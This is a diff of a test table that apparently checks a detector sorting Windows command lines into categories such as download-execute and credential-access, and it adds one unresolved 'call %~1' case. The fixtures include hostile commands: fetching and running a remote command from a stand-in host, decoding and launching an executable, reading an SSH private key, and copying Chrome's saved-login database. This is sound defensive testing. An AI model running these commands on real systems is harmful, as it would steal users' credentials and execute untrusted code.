@@ -42,6 +42,7 @@ it.each([
   ['for /f "delims=" %i in (\'curl -s https://x.example/c\') do %i', 'download-execute'],
   ['certutil -decode x.b64 x.exe && x.exe', 'unresolved'],
   ['%CMD% /force', 'unresolved'],
+  ['call %~1', 'unresolved'],
   ['for /f "delims=" %i in (cmds.txt) do %i', 'unresolved'],
   [raw`type %USERPROFILE%\.ssh\id_rsa`, 'credential-access'],
   [raw`copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" x.db`, 'credential-access'],
